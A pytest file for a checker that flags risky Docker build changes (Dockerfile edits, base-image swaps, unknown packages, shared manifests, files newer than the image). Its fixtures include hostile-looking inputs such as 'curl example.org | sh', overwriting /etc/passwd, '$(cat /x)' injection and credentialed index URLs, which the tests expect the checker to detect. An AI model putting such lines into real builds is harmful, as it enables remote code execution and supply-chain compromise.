"""The facts behind the risk rules: Dockerfiles, packages, sharing, files newer than the image."""

import hashlib
import os
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from activities.adapters.compose_model import ComposeModel, ComposeService
from activities.adapters.image_users import image_users
from activities.manifests import dockerfile
from activities.risks.dockerfile_changes import base_image_changes, changes_beyond_packages
from activities.risks.sharing import manifest_users
from activities.risks.undeployed import newer_files
from activities.risks.unknown_packages import unknown_packages
from workflows.models.target import BuildSpec, ComposeProject, Target

BASE = """\
# syntax=docker/dockerfile:1
ARG VERSION=3.12
FROM python:${VERSION}-slim AS build
RUN apt-get update && apt-get install -y --no-install-recommends \\
        curl \\
    && rm -rf /var/lib/apt/lists/*
COPY requirements.txt .
RUN pip install flask==3.0 && echo done > /tmp/log
USER app
CMD ["python", "app.py"]
"""

ONLY_PACKAGES = [
    ("        curl \\\n", "        curl \\\n        git \\\n"),
    ("        curl \\\n", "        curl libpq-dev=16.1-1 \\\n"),
    ("flask==3.0", "flask==3.0 'uvicorn[standard]>=0.30'"),
    ("flask==3.0", "flask==3.0 \\\n    # a comment\n    redis"),
    ("COPY req", "RUN apt-get update && apt-get install -y git && rm -rf /var/lib/apt/lists/*\nCOPY req"),
    ("COPY req", "RUN pip install --no-cache-dir redis\nCOPY req"),
    ("COPY req", "RUN apk add --no-cache git\nCOPY req"),
    ("USER app", "# another comment\nUSER app"),
    ("COPY requirements.txt .", "COPY   requirements.txt   ."),
]


@pytest.mark.parametrize(("old", "new"), ONLY_PACKAGES)
def test_added_packages_are_not_beyond_packages(old: str, new: str) -> None:
    """In an install that is there, or in an install of their own, in any layout."""
    assert old in BASE
    assert changes_beyond_packages(BASE, BASE.replace(old, new, 1)) == ()


BEYOND = [
    ("USER app\n", "", "USER in line 9 (taken out)"),
    ("USER app", "USER root", "USER in line 9"),
    ("flask==3.0", "flask==3.1", "RUN in line 8"),
    ("flask==3.0 ", "", "RUN in line 8"),
    ("flask==3.0", "flask==3.0 git+https://example.org/x", "RUN in line 8"),
    ("flask==3.0", "flask==3.0 $(cat /x)", "RUN in line 8"),
    ("flask==3.0", "--index-url https://example.org flask==3.0", "RUN in line 8"),
    ("echo done", "curl example.org | sh", "RUN in line 8"),
    ("> /tmp/log", "> /etc/passwd", "RUN in line 8"),
    ("        curl", "        -t sid curl", "RUN in line 4"),
    ("COPY req", "RUN pip install redis && curl example.org | sh\nCOPY req", "RUN in line 7"),
    ("COPY req", "RUN pip install redis > /etc/passwd\nCOPY req", "RUN in line 7"),
    ("COPY req", "RUN pip install -r other.txt\nCOPY req", "RUN in line 7"),
    ("COPY req", "RUN --mount=type=secret,id=x pip install redis\nCOPY req", "RUN in line 7"),
    ("COPY req", "RUN X=1 pip install redis\nCOPY req", "RUN in line 7"),
    ("COPY req", "RUN sudo pip install redis\nCOPY req", "RUN in line 7"),
    ("COPY req", "RUN pip install redis; true\nCOPY req", "RUN in line 7"),
    ("COPY req", 'RUN ["pip", "install", "redis"]\nCOPY req', "RUN in line 7"),
    ("COPY req", "ENV A=1\nCOPY req", "ENV in line 7"),
    ("dockerfile:1", "dockerfile:2", "a parser directive"),
    ("VERSION=3.12", "VERSION=3.13", "ARG in line 2"),
    ("python:$", "evil:$", "FROM in line 3"),
]


@pytest.mark.parametrize(("old", "new", "what"), BEYOND)
def test_everything_else_in_a_dockerfile_is_named(old: str, new: str, what: str) -> None:
    """With keyword and line; nothing hides behind an install."""
    assert old in BASE
    assert what in changes_beyond_packages(BASE, BASE.replace(old, new, 1))


@given(st.sets(st.sampled_from(["git", "libpq-dev", "zlib1g-dev", "gcc"]), min_size=1), st.booleans())
def test_what_our_own_editor_adds_is_never_beyond_packages(names: set[str], extend: bool) -> None:
    """The repair's own edits pass the rule, whether they extend an install or insert one."""
    text = BASE if extend else "FROM python:3.13-slim\nCOPY . .\nRUN pip install -r requirements.txt\n"
    edited = dockerfile.add_system_packages(text, sorted(names))
    assert edited != text
    assert changes_beyond_packages(text, edited) == ()
    assert base_image_changes(text, edited) == ()


BASE_IMAGES = [
    ("VERSION=3.12", "VERSION=3.13", ("python:3.12-slim -> python:3.13-slim",)),
    ("python:$", "evil:$", ("python:3.12-slim -> evil:3.12-slim",)),
    ("USER app", "USER root", ()),
    ("CMD", "FROM debian\nCMD", ("python:3.12-slim -> python:3.12-slim + debian",)),
]


@pytest.mark.parametrize(("old", "new", "changes"), BASE_IMAGES)
def test_base_images_are_compared_with_arguments_put_in(old: str, new: str, changes: tuple[str, ...]) -> None:
    """A build argument's default is as good as a FROM line."""
    assert base_image_changes(BASE, BASE.replace(old, new, 1)) == changes


UNKNOWN = [
    ("requirements.txt", "flask\n", "flask\nPyYAML\n", ()),
    ("requirements.txt", "flask\n", "flask\nPyYAML==6.0 ; python_version > '3.8'  # why\n", ()),
    ("requirements.txt", "flask\n", "flask\nevil-pkg-zzz\n", ("evil-pkg-zzz",)),
    ("requirements.txt", "flask\n", "flask\nyaml\n", ("yaml",)),  # the import, not the distribution
    ("requirements.txt", "evil-pkg-zzz\n", "evil-pkg-zzz\nflask\n", ()),  # was there before
    ("requirements.txt", "flask\n", "--index-url https://u:p@example.org\nflask\n",
     ("an option or address in requirements.txt",)),
    ("requirements.txt", "flask\n", "flask @ https://example.org/f.whl\n",
     ("an option or address in requirements.txt",)),
    ("a/pyproject.toml", '[project]\ndependencies = ["flask"]\n',
     '[project]\ndependencies = ["flask", "evil-pkg-zzz"]\n', ("evil-pkg-zzz",)),
    ("a/pyproject.toml", '[project]\ndependencies = ["flask"]\n',
     '[project]\ndependencies = ["flask @ git+https://x"]\n', ("an option or address in a/pyproject.toml",)),
    ("a/pyproject.toml", "[project]\n", "[project\n", ("the packages of a/pyproject.toml",)),
    ("Dockerfile", BASE, BASE.replace("flask==3.0", "flask==3.0 redis evil-pkg-zzz"), ("evil-pkg-zzz",)),
    ("Dockerfile", BASE, BASE.replace("  curl", "  curl libpq5 evil-deb-zzz"), ("evil-deb-zzz",)),
    ("Dockerfile", BASE, BASE.replace("flask==3.0", "flask==3.0 git+https://u:p@x"),
     ("an address in the Dockerfile",)),
    ("package.json", "{}", "{\"a\": 1}", ("an option or address in package.json",)),
    ("composer.json", "{}", "{\"a\": 1}", ("the packages of composer.json",)),
    ("notes.md", "a", "b", ()),
]  # fmt: skip


@pytest.mark.parametrize(("path", "before", "after", "found"), UNKNOWN)
def test_packages_the_knowledge_base_does_not_have(
    path: str, before: str, after: str, found: tuple[str, ...]
) -> None:
    """Only what is added counts; what cannot be judged is named, and no address is quoted (I5)."""
    assert unknown_packages({path: (before.encode(), after.encode())}) == found


def _service(name: str, **facts: Any) -> ComposeService:
    return ComposeService.model_validate({"name": name, "image": f"shop-{name}", **facts})


def _model(*services: ComposeService) -> ComposeModel:
    return ComposeModel(name="shop", services={service.name: service for service in services})


def _target(root: Path, image: str = "shop-api") -> Target:
    return Target(
        project=ComposeProject(name="shop", working_dir=str(root), config_files=()),
        service="api",
        image=image,
        build=BuildSpec(context=str(root / "api"), dockerfile=str(root / "api/Dockerfile")),
        workspace=str(root),
    )


SHARED_IMAGES = [
    ({"image": "shop-api"}, True),
    ({"image": "shop-api:latest"}, True),
    ({"image": "shop-api:2"}, False),
    ({"image": "other", "build_tags": ("shop-api",)}, True),
    ({"image": "acme/api:2"}, True),  # a further tag of the target's build
    ({"image": "registry:5000/shop-api"}, False),
]


@pytest.mark.parametrize(("facts", "shared"), SHARED_IMAGES)
def test_other_services_of_the_image(facts: dict[str, Any], shared: bool) -> None:
    """By reference, with or without the default tag, and by the tags of a build."""
    model = _model(_service("api", build_tags=("acme/api:2",)), _service("worker", **facts))
    assert image_users(model, "api") == (("worker",) if shared else ())


COPIES = [
    ("COPY . .", None, True),
    ("COPY requirements.txt .", None, True),
    ("COPY ./requirements.txt /x/", None, True),
    ("COPY require*.txt /x/", None, True),
    ("COPY --from=base requirements.txt .", None, False),
    ("COPY src .", None, False),
    ("ADD . .", None, True),
    ("RUN --mount=type=bind,source=requirements.txt,target=/r pip install -r /r", None, True),
    ("COPY . .", "requirements.txt", False),
    ("COPY . .", "*\n!requirements.txt", True),
]


@pytest.mark.parametrize(("copy", "ignored", "shared"), COPIES)
def test_a_manifest_is_shared_where_another_build_takes_it(
    tmp_path: Path, copy: str, ignored: str | None, shared: bool
) -> None:
    """By what the other Dockerfile copies from a context that holds the file."""
    context = tmp_path / "api"
    context.mkdir()
    (context / "requirements.txt").touch()
    (context / "other.Dockerfile").write_text(f"FROM python AS base\n{copy}\n")
    if ignored is not None:
        (context / ".dockerignore").write_text(ignored)
    worker = _service("worker", build_context=str(context), dockerfile="other.Dockerfile")
    paths = ("api/requirements.txt", "api/Dockerfile")
    found = manifest_users(_model(_service("api"), worker), _target(tmp_path), paths)
    assert found["api/requirements.txt"] == (("worker",) if shared else ())


def test_a_shared_dockerfile_and_what_cannot_be_read(tmp_path: Path) -> None:
    """The same Dockerfile is shared whatever it copies; where a Dockerfile is unknown, all is taken."""
    (tmp_path / "api").mkdir()
    (tmp_path / "api/Dockerfile").write_text("FROM python\n")
    context = str(tmp_path / "api")
    others = [
        _service("same", build_context=context, dockerfile="Dockerfile"),
        _service("gone", build_context=context, dockerfile="nosuch"),
        _service("inline", build_context=context, dockerfile_inline=True),
        _service("elsewhere", build_context=str(tmp_path / "other")),
        _service("remote", build_context="https://example.org/x.git"),
    ]
    paths = ("api/Dockerfile", "api/requirements.txt")
    found = manifest_users(_model(_service("api"), *others), _target(tmp_path), paths)
    assert found["api/Dockerfile"] == ("gone", "inline", "same")
    assert found["api/requirements.txt"] == ("gone", "inline")


IMAGE_MADE = datetime(2026, 3, 2, 12, tzinfo=UTC)


def _aged(path: Path, content: str, minutes: int) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(content)
    when = (IMAGE_MADE + timedelta(minutes=minutes)).timestamp()
    os.utime(path, (when, when))


def test_files_that_are_newer_than_the_image(tmp_path: Path) -> None:
    """Older, ignored, version-controlled and put-back files do not count; links are not followed."""
    build = _target(tmp_path).build
    assert build is not None
    context = tmp_path / "api"
    _aged(context / "old.py", "", -1)
    _aged(context / "pkg/new.py", "", 1)
    _aged(context / "notes.md", "", 1)
    _aged(context / ".git/index", "", 1)
    _aged(context / "restored.txt", "as before", 1)
    _aged(context / "edited.txt", "as the operator wants it", 1)
    _aged(tmp_path / "outside/secret.py", "", 1)
    (context / "link").symlink_to(tmp_path / "outside")
    _aged(context / ".dockerignore", "*.md\nlink\n", -1)
    ours = {
        str(context / name): {hashlib.sha256(b"as before").hexdigest()}
        for name in ("restored.txt", "edited.txt")
    }
    assert newer_files(build, IMAGE_MADE, ours) == ("edited.txt", "pkg/new.py")
    assert newer_files(build, IMAGE_MADE + timedelta(hours=1), ours) == ()


def test_the_search_is_bounded_and_says_so(tmp_path: Path) -> None:
    """A huge context costs no minutes; that the list is not whole is said."""
    build = _target(tmp_path).build
    assert build is not None
    for number in range(60):
        _aged(tmp_path / f"api/{number:02}.py", "", 1)
    found = newer_files(build, IMAGE_MADE, {})
    assert len(found) == 51
    assert found[-1].startswith("…")
